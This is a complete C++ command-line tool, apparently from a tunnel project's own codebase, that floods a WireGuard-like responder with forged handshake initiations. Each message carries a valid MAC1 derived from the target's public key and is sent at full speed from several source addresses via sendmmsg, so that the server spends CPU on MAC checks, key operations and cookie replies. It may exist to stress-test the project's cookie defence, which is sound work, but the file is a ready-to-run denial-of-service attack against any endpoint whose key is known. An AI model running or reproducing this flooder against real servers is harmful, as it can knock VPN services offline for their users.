// Forged initiations at full speed:
// flooder PUBLIC_KEY ENDPOINT SECONDS [FIRST_SOURCE].
//
// Whoever knows a responder's public key can make MAC1 right, so every message
// costs it something: a MAC, a Curve25519 until it asks for cookies, then a
// cookie reply. The rest of each message is random. Prints how many were sent.

#include <sys/socket.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <vector>

#include "base/clock.h"
#include "base/file_descriptor.h"
#include "base/ip_address.h"
#include "base/random.h"
#include "tunnel/cookie.h"
#include "tunnel/message.h"

namespace im::tunnel {
namespace {

constexpr size_t kMessages = 4096;
constexpr size_t kMessagesPerSend = 64;
constexpr size_t kSockets = 16;  // source ports, and addresses

std::vector<InitiationMessage> Forge(const PublicKey& victim) {
  SecureRandom random;
  std::vector<InitiationMessage> messages(kMessages);
  for (InitiationMessage& message : messages) {
    auto* bytes = reinterpret_cast<uint8_t*>(&message);
    random.Fill({bytes + sizeof(MessageHeader), sizeof(message) - sizeof(MessageHeader)});
    message.mac2 = {};
    CookieHolder().AddMacs({bytes, sizeof(message)}, victim, Instant{}, std::chrono::seconds(1));
  }
  return messages;
}

int Main(int argc, char** argv) {
  if (argc != 4 && argc != 5) {
    std::fprintf(stderr, "usage: flooder PUBLIC_KEY ENDPOINT SECONDS [FIRST_SOURCE]\n");
    return 2;
  }
  const std::optional<PublicKey> victim = PublicKey::FromBase64(argv[1]);
  const std::optional<Endpoint> endpoint = Endpoint::Parse(argv[2]);
  const std::optional<IpAddress> first_source =
      argc == 5 ? IpAddress::Parse(argv[4]) : std::optional<IpAddress>(IpAddress::V4(0));
  if (!victim || !endpoint || !first_source || !first_source->is_v4()) return 2;
  std::vector<InitiationMessage> messages = Forge(*victim);
  sockaddr_storage address;
  const socklen_t address_bytes = endpoint->ToSockaddr(address);
  std::array<FileDescriptor, kSockets> sockets;
  for (uint32_t i = 0; i < kSockets; ++i) {
    FileDescriptor& fd = sockets[i];
    fd = FileDescriptor(socket(address.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    if (argc == 5) {
      const Endpoint source{IpAddress::V4(first_source->v4() + i), 0};
      sockaddr_storage own;
      const socklen_t own_bytes = source.ToSockaddr(own);
      if (bind(fd.get(), reinterpret_cast<const sockaddr*>(&own), own_bytes) != 0) {
        std::perror("bind");
        return 1;
      }
    }
    if (connect(fd.get(), reinterpret_cast<const sockaddr*>(&address), address_bytes) != 0) {
      std::perror("connect");
      return 1;
    }
  }
  std::array<mmsghdr, kMessagesPerSend> headers = {};
  std::array<iovec, kMessagesPerSend> parts;
  for (size_t i = 0; i < kMessagesPerSend; ++i) {
    headers[i].msg_hdr.msg_iov = &parts[i];
    headers[i].msg_hdr.msg_iovlen = 1;
  }
  const RealClock clock;
  const Instant end = clock.Now() + std::chrono::seconds(std::atoi(argv[3]));
  uint64_t sent = 0;
  for (size_t next = 0; clock.Now() < end; ++next) {
    for (size_t i = 0; i < kMessagesPerSend; ++i) {
      parts[i] = {&messages[(next * kMessagesPerSend + i) % kMessages], sizeof(InitiationMessage)};
    }
    // What does not fit, or is refused by an ICMP error, is only lost.
    const int count = sendmmsg(sockets[next % kSockets].get(), headers.data(), kMessagesPerSend, 0);
    if (count > 0) sent += static_cast<uint64_t>(count);
  }
  std::printf("%llu\n", static_cast<unsigned long long>(sent));
  return 0;
}

}  // namespace
}  // namespace im::tunnel

int main(int argc, char** argv) { return im::tunnel::Main(argc, argv); }
